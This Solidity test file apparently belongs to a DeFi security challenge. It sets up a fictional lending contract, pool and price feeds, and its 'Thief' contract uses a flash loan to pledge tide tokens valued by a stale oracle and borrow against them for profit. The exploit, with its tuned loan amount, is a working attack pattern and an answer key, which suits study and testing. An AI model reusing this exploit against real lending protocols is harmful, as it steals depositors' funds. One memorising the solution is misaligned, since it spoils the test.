// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.27;

import {BoundedFeed} from "../stale-oracle/src/BoundedFeed.sol";
import {Lombard} from "../stale-oracle/src/Lombard.sol";
import {FlashLender, Pool, Token} from "../stale-oracle/src/Imports.sol";
import {IFlashBorrower} from "../../shared/IFlashBorrower.sol";

interface Vm {
    function prank(address sender) external;
    function roll(uint256 number) external;
    function warp(uint256 time) external;
}

contract Thief is IFlashBorrower {
    Lombard private immutable lombard;
    Pool private immutable pool;
    Token private immutable cash;
    Token private immutable tide;

    constructor(Lombard lombard_, Pool pool_, Token cash_, Token tide_) {
        lombard = lombard_;
        pool = pool_;
        cash = cash_;
        tide = tide_;
        cash.approve(address(pool), type(uint256).max);
        tide.approve(address(lombard), type(uint256).max);
    }

    function attack(FlashLender lender, uint256 amount) external {
        lender.flashLoan(this, address(cash), amount, "");
    }

    function onFlashLoan(address, address, uint256 amount, uint256 fee, bytes calldata) external returns (bytes32) {
        uint256 bought = pool.swap(cash.balanceOf(address(this)), false, 0, address(this));
        lombard.pledge(address(tide), bought);
        lombard.borrow(lombard.limit(address(this)) * 10_000 / 10_020);
        cash.approve(msg.sender, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }
}

contract StaleOracleTest {
    event Profit(uint256 cash);

    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));

    address private alice = address(uint160(uint256(keccak256("heist actor alice"))));
    address private bob = address(uint160(uint256(keccak256("heist actor bob"))));
    address private carol = address(uint160(uint256(keccak256("heist actor carol"))));
    address private admin = address(uint160(uint256(keccak256("heist actor admin"))));
    address private reporter = address(uint160(uint256(keccak256("heist actor reporter"))));
    address private attacker = address(uint160(uint256(keccak256("heist actor attacker"))));
    Token private cash;
    Token private ingot;
    Token private tide;
    BoundedFeed private ingot_feed;
    BoundedFeed private tide_feed;
    Lombard private lombard;
    Pool private pool;
    FlashLender private lender;

    function setUp() public {
        vm.roll(1);
        vm.warp(1_700_000_000);
        vm.prank(admin);
        cash = new Token("Cash", "CASH");
        vm.prank(admin);
        ingot = new Token("Ingot", "ING");
        vm.prank(admin);
        tide = new Token("Tide", "TIDE");
        vm.prank(admin);
        ingot_feed = new BoundedFeed(8, 100e8, 100000e8, 1800e8, reporter);
        vm.prank(admin);
        tide_feed = new BoundedFeed(8, 0.1e8, 1000e8, 4e8, reporter);
        vm.prank(admin);
        lombard = new Lombard(cash);
        vm.prank(admin);
        pool = new Pool(tide, cash);
        vm.prank(admin);
        lender = new FlashLender(9);
        vm.prank(admin);
        lombard.list(address(ingot), ingot_feed, 7500);
        vm.prank(admin);
        lombard.list(address(tide), tide_feed, 6000);
        vm.prank(admin);
        cash.mint(alice, 1400000 ether);
        vm.prank(admin);
        cash.mint(bob, 500000 ether);
        vm.prank(admin);
        cash.mint(carol, 20000 ether);
        vm.prank(admin);
        ingot.mint(carol, 300 ether);
        vm.prank(admin);
        ingot.mint(bob, 20 ether);
        vm.prank(admin);
        tide.mint(carol, 250000 ether);
        vm.prank(admin);
        tide.mint(alice, 10000000 ether);
        vm.prank(admin);
        cash.mint(attacker, 30000 ether);
        vm.prank(admin);
        cash.mint(address(lender), 5000000 ether);
        vm.prank(alice);
        cash.approve(address(lombard), 1e60);
        vm.prank(alice);
        cash.approve(address(pool), 1e60);
        vm.prank(bob);
        cash.approve(address(lombard), 1e60);
        vm.prank(bob);
        cash.approve(address(pool), 1e60);
        vm.prank(carol);
        cash.approve(address(lombard), 1e60);
        vm.prank(carol);
        cash.approve(address(pool), 1e60);
        vm.prank(attacker);
        cash.approve(address(lombard), 1e60);
        vm.prank(attacker);
        cash.approve(address(pool), 1e60);
        vm.prank(alice);
        tide.approve(address(lombard), 1e60);
        vm.prank(alice);
        tide.approve(address(pool), 1e60);
        vm.prank(carol);
        tide.approve(address(lombard), 1e60);
        vm.prank(carol);
        tide.approve(address(pool), 1e60);
        vm.prank(attacker);
        tide.approve(address(lombard), 1e60);
        vm.prank(attacker);
        tide.approve(address(pool), 1e60);
        vm.prank(bob);
        ingot.approve(address(lombard), 1e60);
        vm.prank(carol);
        ingot.approve(address(lombard), 1e60);
        vm.prank(attacker);
        ingot.approve(address(lombard), 1e60);
        vm.prank(alice);
        lombard.supply(1100000 ether);
        vm.prank(bob);
        lombard.supply(450000 ether);
        vm.prank(carol);
        lombard.pledge(address(ingot), 200 ether);
        vm.prank(carol);
        lombard.pledge(address(tide), 50000 ether);
        vm.prank(carol);
        lombard.borrow(150000 ether);
        vm.prank(alice);
        pool.addLiquidity(10000000 ether, 200000 ether, alice);
        vm.roll(block.number + 7000);
        vm.warp(block.timestamp + 86000 seconds);
        vm.prank(reporter);
        ingot_feed.report(1800e8);
        vm.prank(reporter);
        tide_feed.report(0.5e8);
        vm.prank(carol);
        lombard.release(address(tide), 50000 ether);
        vm.roll(block.number + 3000);
        vm.warp(block.timestamp + 36000 seconds);
        vm.prank(reporter);
        ingot_feed.report(1800e8);
        vm.prank(reporter);
        tide_feed.report(0.02e8);
    }

    function test_attack_pays() public {
        vm.prank(attacker);
        Thief thief = new Thief(lombard, pool, cash, tide);
        vm.prank(attacker);
        cash.transfer(address(thief), 15_000 ether);
        // See stale-oracle/optimum.md.
        thief.attack(lender, 130_826_874_140_739_400_608_842);
        uint256 profit = cash.balanceOf(address(thief)) - 15_000 ether;
        emit Profit(profit);
        require(profit > 106_000 ether, "no profit");
    }
}
